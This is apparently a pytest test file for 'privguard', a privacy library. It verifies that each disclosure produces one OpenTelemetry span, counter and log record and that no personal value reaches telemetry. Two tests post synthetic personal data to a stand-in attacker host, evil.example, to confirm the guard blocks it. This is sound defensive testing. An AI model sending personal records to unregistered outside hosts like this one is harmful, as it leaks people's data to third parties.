"""Telemetry: a span, a counter and a log record per disclosure call, never a personal value.

The OpenTelemetry SDK's in-memory exporters receive what privguard emits. Providers are
passed to :class:`Telemetry` explicitly (the seam), so no test touches the global ones.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
import respx
from opentelemetry.sdk._logs import LoggerProvider, ReadableLogRecord
from opentelemetry.sdk._logs.export import SimpleLogRecordProcessor
from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import InMemoryMetricReader
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.trace import StatusCode

import privguard._telemetry as names
from privguard import (
    Categories,
    ConsentMethod,
    DisclosureBlocked,
    Evidence,
    GuardedTransport,
    MemoryStore,
    Privguard,
    Purposes,
    Recipient,
    RecipientKind,
    Scope,
    StoreUnavailable,
    Subject,
    Telemetry,
)
from privguard.testing import find_personal_data

try:
    from opentelemetry.sdk._logs.export import InMemoryLogRecordExporter as LogExporter
except ImportError:  # older SDKs
    from opentelemetry.sdk._logs.export import (  # type: ignore[attr-defined,no-redef]
        InMemoryLogExporter as LogExporter,
    )

C = Categories
P = Purposes
R = RecipientKind
TENANT = "acme-events"

MAILER = Recipient(
    "mailer",
    R.PROCESSOR,
    hosts=["api.mailer.example"],
    purposes=[P.SERVICE],
    categories=[C.NAME, C.EMAIL],
)
MEGACORP = Recipient(
    "megacorp", R.ACQUIRER, purposes=[P.CORPORATE_TRANSACTION], categories=[C.USER]
)

#: Every attribute name privguard may emit: the constants of its one telemetry module.
KNOWN_ATTRIBUTES = {value for key, value in vars(names).items() if key.startswith("ATTR_")}


@dataclass
class Otel:
    telemetry: Telemetry
    tracer_provider: TracerProvider
    span_exporter: InMemorySpanExporter
    reader: InMemoryMetricReader
    log_exporter: Any

    def spans(self) -> tuple[ReadableSpan, ...]:
        return tuple(self.span_exporter.get_finished_spans())

    def logs(self) -> list[ReadableLogRecord]:
        return list(self.log_exporter.get_finished_logs())

    def counters(self, name: str) -> dict[tuple[tuple[str, Any], ...], int]:
        """Sum per attribute set of the counter ``name``."""
        data = self.reader.get_metrics_data()
        out: dict[tuple[tuple[str, Any], ...], int] = {}
        if data is None:
            return out
        for resource in data.resource_metrics:
            for scope in resource.scope_metrics:
                for metric in scope.metrics:
                    if metric.name == name:
                        for point in metric.data.data_points:
                            key = tuple(sorted(point.attributes.items()))
                            out[key] = int(point.value)  # type: ignore[union-attr]
        return out

    def everything(self) -> list[Any]:
        """Every attribute value, status, name and body privguard emitted."""
        found: list[Any] = []
        for span in self.spans():
            found += [span.name, span.status.description, dict(span.attributes or {})]
            found += [dict(e.attributes or {}) for e in span.events]
        for record in self.logs():
            found += [record.log_record.body, dict(record.log_record.attributes or {})]
        data = self.reader.get_metrics_data()
        if data is not None:
            found.append(json.loads(data.to_json()))
        return found


@pytest.fixture
def otel() -> Iterator[Otel]:
    spans = InMemorySpanExporter()
    tracer_provider = TracerProvider()
    tracer_provider.add_span_processor(SimpleSpanProcessor(spans))
    reader = InMemoryMetricReader()
    meter_provider = MeterProvider(metric_readers=[reader])
    logs = LogExporter()
    logger_provider = LoggerProvider()
    logger_provider.add_log_record_processor(SimpleLogRecordProcessor(logs))
    telemetry = Telemetry(
        tracer_provider=tracer_provider,
        meter_provider=meter_provider,
        logger_provider=logger_provider,
    )
    yield Otel(telemetry, tracer_provider, spans, reader, logs)
    tracer_provider.shutdown()
    meter_provider.shutdown()
    logger_provider.shutdown()


@pytest.fixture
def guard(otel: Otel) -> Privguard:
    return Privguard(recipients=[MAILER, MEGACORP], telemetry=otel.telemetry)


def contacts(n: int) -> list[tuple[Subject, dict[str, Any]]]:
    return [
        (
            Subject.business_contact(f"contact-{i}", tenant=TENANT),
            {
                "first_name": f"Person{i}",
                "email": f"person{i}@example.com",
                "card": "4111111111111111",
            },
        )
        for i in range(n)
    ]


def test_a_disclosure_is_one_span_with_its_attributes(guard: Privguard, otel: Otel) -> None:
    result = guard.disclose(contacts(3), to=MAILER, purpose=P.SERVICE, controller=TENANT)
    (span,) = otel.spans()
    assert span.name == names.SPAN_DISCLOSE == "privguard.disclose"
    attrs = dict(span.attributes or {})
    assert attrs == {
        "privguard.channel": "export",
        "privguard.recipient.name": "mailer",
        "privguard.recipient.kind": "processor",
        "privguard.purpose": P.SERVICE,
        "privguard.outcome": "disclosed",
        "privguard.subject_count": 3,
        "privguard.dropped_count": 0,
        "privguard.dropped_reasons": (),
        "privguard.categories": (C.EMAIL, C.NAME),
        "privguard.basis": ("contract",),
        "privguard.policy_version": guard.policy.version,
        "privguard.controller": TENANT,
        "privguard.batch_id": result.batch_id,
    }
    assert set(attrs) <= KNOWN_ATTRIBUTES


def test_a_bulk_export_is_one_span_and_one_counter_increment(guard: Privguard, otel: Otel) -> None:
    consenting = contacts(5000)
    acme = guard.recipients.register_exhibitor(event="E1", name="acme")
    for subject, _ in consenting[:1200]:
        guard.ledger.grant(
            subject,
            P.EXHIBITOR_DISCLOSURE,
            scope=acme.scope,
            evidence=Evidence(ConsentMethod.FORM, actor=subject.id, notice_version="n1"),
        )
    guard.disclose(consenting, to=acme, purpose=P.EXHIBITOR_DISCLOSURE)

    (span,) = otel.spans()
    attrs = dict(span.attributes or {})
    assert attrs["privguard.subject_count"] == 1200
    assert attrs["privguard.dropped_count"] == 3800
    assert attrs["privguard.dropped_reasons"] == ("consent_missing",)
    assert attrs["privguard.basis"] == ("consent",)
    assert otel.counters(names.METRIC_DISCLOSURES) == {
        (
            ("privguard.purpose", P.EXHIBITOR_DISCLOSURE),
            ("privguard.recipient.kind", "exhibitor"),
        ): 1200
    }
    assert otel.counters(names.METRIC_DROPPED) == {
        (
            ("privguard.dropped_reason", "consent_missing"),
            ("privguard.purpose", P.EXHIBITOR_DISCLOSURE),
            ("privguard.recipient.kind", "exhibitor"),
        ): 3800
    }
    assert len(otel.logs()) == 1


def test_records_carry_the_trace_and_span_of_their_call(guard: Privguard, otel: Otel) -> None:
    tracer = otel.tracer_provider.get_tracer("the host's export job")
    with tracer.start_as_current_span("export job") as parent:
        result = guard.disclose(contacts(2), to=MAILER, purpose=P.SERVICE)
    disclose_span = next(s for s in otel.spans() if s.name == names.SPAN_DISCLOSE)
    assert disclose_span.parent is not None
    assert disclose_span.parent.span_id == parent.get_span_context().span_id
    for record in guard.disclosures.for_recipient("mailer"):
        assert record.trace_id == format(disclose_span.context.trace_id, "032x")
        assert record.span_id == format(disclose_span.context.span_id, "016x")
        assert record.batch_id == result.batch_id


def test_a_log_record_per_disclosure(guard: Privguard, otel: Otel) -> None:
    guard.disclose(contacts(2), to=MAILER, purpose=P.SERVICE)
    (log,) = otel.logs()
    record = log.log_record
    assert record.body == "disclosure recorded"
    assert record.severity_text == "INFO"
    attrs = dict(record.attributes or {})
    assert attrs["event.name"] == names.LOG_EVENT_DISCLOSURE
    assert attrs["privguard.subject_count"] == 2
    assert set(attrs) <= KNOWN_ATTRIBUTES
    (span,) = otel.spans()
    assert record.trace_id == span.context.trace_id  # correlated with the span


def test_a_blocked_request_is_an_error_span_a_warning_and_a_count(
    guard: Privguard, otel: Otel
) -> None:
    buyer = Subject.customer("buyer-1", tenant=TENANT)
    with respx.mock(assert_all_called=False) as remote:
        route = remote.post("https://evil.example/ingest").respond(200)
        transport = GuardedTransport(httpx.HTTPTransport(), guard=guard, purpose=P.SERVICE)
        with httpx.Client(transport=transport) as http, pytest.raises(DisclosureBlocked):
            http.post(
                "https://evil.example/ingest",
                json={"email": "jane@example.com"},
                extensions={"privguard": {"subject": buyer}},
            )
    assert route.called is False
    (span,) = otel.spans()
    assert span.status.status_code is StatusCode.ERROR
    assert span.status.description == "disclosure blocked: unregistered_recipient"
    attrs = dict(span.attributes or {})
    assert attrs["privguard.outcome"] == "blocked"
    assert attrs["privguard.block_reason"] == "unregistered_recipient"
    assert attrs["server.address"] == "evil.example"
    (log,) = otel.logs()
    assert log.log_record.severity_text == "WARN"
    assert otel.counters(names.METRIC_BLOCKED) == {
        (("privguard.block_reason", "unregistered_recipient"), ("privguard.recipient.kind", "")): 1
    }


def test_a_guarded_request_is_one_span_and_its_record_points_at_it(
    guard: Privguard, otel: Otel
) -> None:
    buyer = Subject.customer("buyer-1", tenant=TENANT)
    with respx.mock(assert_all_called=False) as remote:
        remote.post("https://api.mailer.example/send").respond(202)
        transport = GuardedTransport(httpx.HTTPTransport(), guard=guard, purpose=P.SERVICE)
        with httpx.Client(transport=transport) as http:
            http.post(
                "https://api.mailer.example/send",
                json={"email": "jane@example.com"},
                extensions={"privguard": {"subject": buyer}},
            )
    (span,) = otel.spans()
    attrs = dict(span.attributes or {})
    assert attrs["privguard.channel"] == "http"
    assert attrs["privguard.recipient.name"] == "mailer"
    assert attrs["privguard.purpose"] == P.SERVICE
    (record,) = guard.disclosures.for_subject(buyer)
    assert record.span_id == format(span.context.span_id, "016x")


def test_a_failed_write_marks_the_span_as_an_error_with_no_detail(otel: Otel) -> None:
    store = MemoryStore()
    guard = Privguard(store=store, recipients=[MEGACORP], telemetry=otel.telemetry)
    store.unavailable = True
    with pytest.raises(StoreUnavailable):
        guard.disclose(contacts(1), to=MEGACORP, purpose=P.CORPORATE_TRANSACTION)
    (span,) = otel.spans()
    assert span.status.status_code is StatusCode.ERROR
    assert span.status.description == "StoreUnavailable"
    assert otel.counters(names.METRIC_DISCLOSURES) == {}


def test_no_personal_value_anywhere_in_telemetry(guard: Privguard, otel: Otel) -> None:
    """C32: "nothing personal in logs, errors or telemetry"."""
    people = contacts(20)
    acme = guard.recipients.register_exhibitor(event="E1", name="acme", hosts="leads.acme.example")
    guard.disclose(people, to=MAILER, purpose=P.SERVICE)
    guard.disclose(people, to=acme, purpose=P.EXHIBITOR_DISCLOSURE, scope=Scope(event="E1"))
    with respx.mock(assert_all_called=False) as remote:
        remote.post(url__regex=r".*").respond(200)
        transport = GuardedTransport(httpx.HTTPTransport(), guard=guard, purpose=P.SERVICE)
        with httpx.Client(transport=transport) as http:
            for subject, data in people[:3]:
                http.post(
                    "https://api.mailer.example/send",
                    json=data,
                    extensions={"privguard": {"subject": subject}},
                )
                with pytest.raises(DisclosureBlocked):
                    http.post(
                        "https://evil.example/x",
                        json=data,
                        extensions={"privguard": {"subject": subject}},
                    )
    emitted = otel.everything()
    assert len(otel.spans()) == 8
    assert find_personal_data(emitted) == []
    text = json.dumps(emitted, default=str)
    for subject, data in people:
        assert subject.id not in text
        for value in data.values():
            assert value not in text


def test_without_an_sdk_nothing_is_built(monkeypatch: pytest.MonkeyPatch) -> None:
    """No SDK configured: no attributes are built, no ids recorded, nothing raised."""

    def fail(self: object) -> dict[str, Any]:
        raise AssertionError("attributes were built for a span nobody records")

    monkeypatch.setattr(names.DisclosureTelemetry, "base_attributes", fail)
    guard = Privguard(recipients=[MAILER])  # the global providers: the API's no-ops
    result = guard.disclose(contacts(2), to=MAILER, purpose=P.SERVICE)
    assert result.disclosed == 2
    (record, _) = guard.disclosures.for_recipient("mailer")
    assert record.trace_id is None and record.span_id is None


def test_every_attribute_name_is_a_constant_of_the_one_module() -> None:
    assert {
        "privguard.recipient.name",
        "privguard.recipient.kind",
        "privguard.purpose",
        "privguard.categories",
        "privguard.basis",
        "privguard.subject_count",
        "privguard.dropped_count",
    } <= KNOWN_ATTRIBUTES
    assert names.METRIC_DISCLOSURES == "privguard.disclosures"
